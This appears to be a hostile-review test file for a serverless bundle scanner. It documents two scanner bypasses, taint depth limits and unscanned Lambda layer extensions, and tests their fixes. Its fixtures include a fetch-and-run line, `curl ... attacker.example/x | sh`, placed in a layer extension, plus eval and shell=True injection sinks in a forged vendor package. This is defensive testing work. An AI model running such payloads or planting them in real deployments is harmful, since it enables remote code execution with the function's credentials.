"""A twenty-fourth hostile review of `gate check`: the gate's layer in front of the
scanners (the private copy, links, third-party proof by RECORD, bytecode, `.pth`, modules
brought back from ignored folders, zips), the Serverless Framework's packaging, Chalice,
diff mode and the findings cache, and the bounds of review 23's taint changes.

Each attack is a confirmed problem: the test says what the gate must do, and a baseline
beside it shows the same bundle without the trick blocks. Each attack exited 0 with the
hostile harness's policy (checkov off), and by hand with the default policy (checkov on)
exited 0 all the same: checkov reads neither Python taint nor a layer's programs, and
bandit reports `eval` (B307) at medium, below the default threshold. What lets each
through:

1. Review 23's taint changes stop silently at a depth: a function defined five deep
   inside the handler (`def handler: def f1(): def f2(): ... def f5(): return
   eval(event['x'])`, each called by the one above), or five lambdas inlined inside each
   other (`(lambda v1: (lambda v2: ... (lambda v5: eval(v5))(v4) ...)(v1))(event['x'])`).
   gate.rules.taint.walk `FunctionWalk._walk_nested` returns CLEAN without walking once
   `depth >= MAX_NESTED` (4), so the innermost body's sink is never observed at all; and
   gate.rules.taint.exprs `Expressions._call` inlines a lambda only while `_inlined <
   _MAX_INLINED` (4), past that the call of a lambda is an unknown call whose result is
   clean and whose body is never read. A bound is fine; a bound that turns into "no
   finding" is a pass the author chooses by indenting one level more. Four deep blocks
   (GATE-SLS-002). (`MAX_WALKS_PER_FUNCTION` in gate.rules.taint.flow is the same kind of
   silent cut-off for a call chain, read but not driven to a case.)
2. A Lambda extension in a layer: any executable in the layer's `extensions/` folder
   (`/opt/extensions/NAME`) is started by Lambda itself in the Init phase of every
   execution environment, with the function's role and credentials, before the handler
   runs, and lives beside it (AWS: "Lambda extensions API", external extensions). A
   shell script there (`curl ... | sh`) is only `not-analysed` (a warning under the
   default `coverage`). gate.rules.iac.startup `startup_findings` (GATE-IAC-018) knows
   only the environment's `AWS_LAMBDA_EXEC_WRAPPER`/`LD_PRELOAD` (and `PYTHONHOME`) as
   ways the runtime runs a file before the handler: the same script named by
   `AWS_LAMBDA_EXEC_WRAPPER: /opt/extensions/telemetry` blocks (GATE-IAC-018), put there
   and named by nothing it passes, although Lambda runs it all the same.

Suggested fixes, by class: every bound of the taint walk (nested functions, inlined
lambdas, the fixpoint's walk budget, the store and hop limits) reached is a scan error
naming the function (or, at least, a GATE-SLS finding at reduced confidence where event
data is in the call it gave up on), never CLEAN; and every way the Lambda service itself
runs bundle code before the handler judged as GATE-IAC-018 judges an exec wrapper: an
executable (or any file: Lambda tries to start each) under a layer's `extensions/` is a
program the runtime starts, a Python one scanned and anything else blocking; the list of
such ways kept in one place (exec wrapper, LD_PRELOAD, PYTHONHOME, external extensions,
and `bootstrap` for a custom runtime).

Also tried, and the gate held: a Chalice `vendor/` package with a forged `*.dist-info/
RECORD` that no requirements file declares (scanned, `undeclared-package`: blocks, B602);
a Terraform `archive_file` of a folder holding `cdk.out/evil.py` imported through a
`sys.path` insert (build-output inside a Python function's code is not ignored: blocks,
GATE-SLS-001); a Serverless `package.artifact` in `.serverless/` (refused: not in the
bundle); a recursive lambda (`f = lambda x: f(x)`) and two nested functions calling each
other in the handler (no hang, blocks); sixty lambdas applied one after another (not
nested: blocks); diff mode with a samconfig override turning `s3:*` into `*` on an
untouched template line (the finding's anchor changes with it, so the merge base's scan
lacks its fingerprint: new, blocks). Read, and judged sound without a case: zip entries
(symbolic links, devices, `..`, absolute and drive names refused; `a\\b` read as `a/b`;
two entries on one path refused, a case-only clash is two files on Lambda's disk and
both are scanned); `name.pyc` beside its `name.py` (source wins); native modules under
every extension suffix (`.abi3.so`, the tagged `.so`) shadowing a module or a package's
`__init__` (refused by the module name before the first dot); `.pth` files (the suffix
compared lower-cased: over-refuses); the audit's cache key (every requirements file an
include reaches, every metadata file); diff mode's dependency files. A cross-folder
`${file(../shared/res.yml):res}` in serverless.yml changed under a cached checkov part
was tried but checkov reports nothing on the included resources with or without the
cache, so no case.

Not covered in the time: `--shard I/N` and `gate merge`, waivers and baselines (expiry,
patterns), report escaping, Serverless `package.patterns`/`individually` against what
the Framework zips, serverless-python-requirements `dockerizePip`/`slim`/`layer`, Chalice
stage `lambda_functions` settings, hard links in the private copy.

Fixed, each by its class: 1, the taint rules never take code they did not read for
clean: nesting is read to MAX_NESTING (8) levels, a recursion is read once, and deeper
code, or nested code called from nested code so often that reading it would multiply
past MAX_INLINED, stops the rule with `TooDeep`, a scan error naming the file and rule
(gate.rules.taint.exprs, walk.py `_walk_nested`). 2, every file of a layer's
`extensions/` folder that is not Python is GATE-IAC-018 (gate.rules.iac.startup
`_extensions`); a Python one is scanned with the rest of the code.
"""

from __future__ import annotations

from functools import partial
from pathlib import Path

import pytest

from tests.hostile.conftest import Layout, Sandbox, each_blocks
from tests.hostile.test_review23 import TEMPLATE, handler_bundle

# --- 1. the taint walk's depth bounds ----------------------------------------------------


def nested_defs(depth: int) -> str:
    """A handler with DEPTH functions defined inside each other, the innermost
    evaluating event data, each called by the one above."""
    lines = ["def handler(event, context):"]
    indent = "    "
    for i in range(1, depth + 1):
        lines.append(f"{indent}def f{i}():")
        indent += "    "
    lines.append(f"{indent}return eval(event['x'])")
    for i in range(depth, 0, -1):
        indent = indent[:-4]
        lines.append(f"{indent}return f{i}()")
    return "\n".join(lines) + "\n"


def nested_lambdas(depth: int) -> str:
    """A handler applying DEPTH lambdas inside each other to event data."""
    body = f"eval(v{depth})"
    for i in range(depth, 0, -1):
        body = f"(lambda v{i}: {body})(v{i - 1})"
    return f"def handler(event, context):\n    v0 = event['x']\n    return {body}\n"


NESTED = {"defs": nested_defs, "lambdas": nested_lambdas}


def four_levels_of_nesting(shape: str) -> Layout:
    """The baseline: four nested functions or lambdas deep, `eval` of event data blocks
    (GATE-SLS-002)."""
    return partial(handler_bundle, source=NESTED[shape](4))


@pytest.mark.parametrize("shape", sorted(NESTED))
def test_deeper_nesting_is_not_a_pass(sandbox: Sandbox, shape: str) -> None:
    """Five deep: the walk gives up; that must be a finding or a scan error, not a pass."""
    sandbox.write("template.yaml", TEMPLATE)
    sandbox.write("src/app.py", NESTED[shape](5))
    run = sandbox.run()
    assert run.code in (1, 2), (run.code, run.stdout[-2000:], run.stderr)
    if run.code == 1:
        assert "GATE-SLS-002" in run.stdout, run.stdout[-2000:]


# --- 2. a Lambda extension in a layer ----------------------------------------------------

LAYERED = """\
AWSTemplateFormatVersion: '2010-09-09'
Transform: AWS::Serverless-2016-10-31
Resources:
  Deps:
    Type: AWS::Serverless::LayerVersion
    Properties:
      ContentUri: layer/
      CompatibleRuntimes: [python3.12]
  Fn:
    Type: AWS::Serverless::Function
    Properties:
      CodeUri: src/
      Handler: app.handler
      Runtime: python3.12
      Layers: [!Ref Deps]
"""

WRAPPED = (
    LAYERED
    + """\
      Environment:
        Variables:
          AWS_LAMBDA_EXEC_WRAPPER: /opt/extensions/telemetry
"""
)


def layer_with_extension(sandbox: Sandbox, template: str) -> None:
    """A harmless handler, and a layer holding `extensions/telemetry`, an executable shell
    script that fetches and runs code."""
    sandbox.write("template.yaml", template)
    sandbox.write("src/app.py", "def handler(event, context):\n    return {'ok': True}\n")
    sandbox.write("layer/python/helper.py", "X = 1\n")
    script = sandbox.write(
        "layer/extensions/telemetry", "#!/bin/sh\ncurl -s https://attacker.example/x | sh\n"
    )
    script.chmod(0o755)


def layer_script_run_as_the_exec_wrapper(sandbox: Sandbox) -> None:
    """The baseline: the script named by AWS_LAMBDA_EXEC_WRAPPER blocks (GATE-IAC-018)."""
    layer_with_extension(sandbox, WRAPPED)


def layer_extension(sandbox: Sandbox) -> None:
    """Lambda starts every executable in /opt/extensions before the handler, named by
    nothing: the same script there must block as the exec wrapper does (GATE-IAC-018)."""
    layer_with_extension(sandbox, LAYERED)


# --- what held ---------------------------------------------------------------------------


def recursive_lambda(sandbox: Sandbox) -> None:
    """`f = lambda x: f(x)` and nested functions calling each other: no hang, blocks
    (GATE-SLS-002)."""
    handler_bundle(
        sandbox,
        "f = lambda x: f(x)\n\n"
        "def handler(event, context):\n"
        "    def a(x):\n        return b(x)\n"
        "    def b(x):\n        return a(x)\n"
        "    a(event)\n    f(event)\n"
        "    return eval(event['x'])\n",
    )


def undeclared_chalice_vendor_package(sandbox: Sandbox) -> None:
    """A `vendor/` package with a forged RECORD that no requirements file declares is the
    function's own code: scanned, B602 blocks."""
    import base64
    import hashlib

    sandbox.write(
        ".chalice/config.json",
        '{"version": "2.0", "app_name": "demo", "stages": {"dev": {}}}',
    )
    sandbox.write(
        "app.py",
        "from chalice import Chalice\nfrom evilpkg import run\n"
        "app = Chalice(app_name='demo')\n\n"
        "@app.lambda_function()\ndef fn(event, context):\n    return run(event['x'])\n",
    )
    sandbox.write("requirements.txt", "chalice==1.31.0\n")
    code = b"import subprocess\ndef run(x):\n    return subprocess.call(x, shell=True)\n"
    sandbox.write("vendor/evilpkg/__init__.py", code)
    digest = base64.urlsafe_b64encode(hashlib.sha256(code).digest()).rstrip(b"=").decode()
    info = "vendor/evilpkg-1.0.dist-info"
    sandbox.write(f"{info}/METADATA", "Metadata-Version: 2.1\nName: evilpkg\nVersion: 1.0\n")
    sandbox.write(
        f"{info}/RECORD",
        f"evilpkg/__init__.py,sha256={digest},{len(code)}\n"
        "evilpkg-1.0.dist-info/METADATA,,\nevilpkg-1.0.dist-info/RECORD,,\n",
    )


@pytest.mark.parametrize("shape", sorted(NESTED))
def test_nesting_past_the_bound_is_a_scan_error(sandbox: Sandbox, shape: str) -> None:
    """Nine deep, past MAX_NESTING: the rules do not guess it clean; a scan error naming
    the file and the rule."""
    sandbox.write("template.yaml", TEMPLATE)
    sandbox.write("src/app.py", NESTED[shape](9))
    run = sandbox.run()
    assert run.code == 2, (run.code, run.stdout[-2000:], run.stderr)
    assert "src/app.py" in run.stderr and "nested more than 8 deep" in run.stderr, run.stderr
    assert "Traceback" not in run.stderr


def fanned_lambdas(depth: int, calls: int) -> str:
    """Named lambdas each calling the one before `calls` times: a short file whose
    innermost body, read naively, is read calls**depth times."""
    lines = ["def handler(event, context):", "    v = event['x']", "    f0 = lambda v: eval(v)"]
    for level in range(1, depth + 1):
        called = ", ".join([f"f{level - 1}(v)"] * calls)
        lines.append(f"    f{level} = lambda v: [{called}]")
    lines.append(f"    return f{depth}(v)")
    return "\n".join(lines) + "\n"


def test_nested_code_that_multiplies_is_stopped_not_read_for_ever(sandbox: Sandbox) -> None:
    """Seven lambdas deep, each calling the next eight times (8**7 bodies): stopped at
    the budget, a scan error, in the harness's time."""
    sandbox.write("template.yaml", TEMPLATE)
    sandbox.write("src/app.py", fanned_lambdas(7, 8))
    run = sandbox.run()
    assert run.code == 2, (run.code, run.stdout[-2000:], run.stderr)
    assert "nested code read more than" in run.stderr, run.stderr


# --- the bundles that block, in one run --------------------------------------------------

# name: (the bundle, the rule its blocking finding names)
BLOCKING: dict[str, tuple[Layout, str]] = {
    **{
        f"1-four-levels-of-nested-{shape}": (four_levels_of_nesting(shape), "GATE-SLS-002")
        for shape in sorted(NESTED)
    },
    "2-layer-script-as-the-exec-wrapper": (layer_script_run_as_the_exec_wrapper, "GATE-IAC-018"),
    "2-layer-extension": (layer_extension, "GATE-IAC-018"),
    "held-recursive-lambda": (recursive_lambda, "GATE-SLS-002"),
    "held-undeclared-chalice-vendor-package": (undeclared_chalice_vendor_package, "B602"),
}


def test_the_bundles_that_must_block_do(tmp_path: Path) -> None:
    """The baselines of 1 and 2, 2's extension and what held, in one run of every bundle:
    each blocks, its finding naming its rule."""
    each_blocks(tmp_path, BLOCKING)
